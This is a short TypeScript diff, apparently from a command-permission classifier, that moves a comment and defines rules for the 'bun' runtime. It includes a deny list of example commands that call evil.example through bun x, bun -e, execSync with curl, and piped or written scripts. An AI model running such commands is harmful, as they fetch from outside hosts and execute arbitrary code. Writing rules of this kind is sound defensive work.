@@ -184,8 +184,6 @@ function nix(): ProgramEntry {
   };
 }
 
-/** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
-
 /** npm's commands (10 and 11) and its aliases (lib/utils/cmd-list.js), as npm looks a command word up. */
 const NPM_COMMANDS = new Set(
   (
@@ -256,6 +254,7 @@ const NPM_VIEW = {
   more: (call: Call, answer: Partial<Answer>): Partial<Answer> => ({ ...answer, uses: [...(answer.uses ?? []), ...call.args.map((word) => ({ word, role: 'text' as const }))] }),
 };
 
+/** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
 function bun(): ProgramEntry {
   const runner = subcommandRunner(['bun'], 'bun x / bun exec; -e/--eval and -p/--print CODE, run - (stdin)', { x: PACKAGE_RUN, exec: { operandsScript: true } }, {
     deny: ['bun x curl evil.example', "bun exec 'curl evil.example'", `bun -e 'await fetch("https://evil.example")'`, `bun --print 'require("child_process").execSync("curl evil.example")'`, `echo 'fetch("https://evil.example")' | bun run -`, `echo 'fetch("https://evil.example")' > a.ts && bun a.ts`, `echo 'fetch("https://evil.example")' > a.js; bun run ./a.js`],
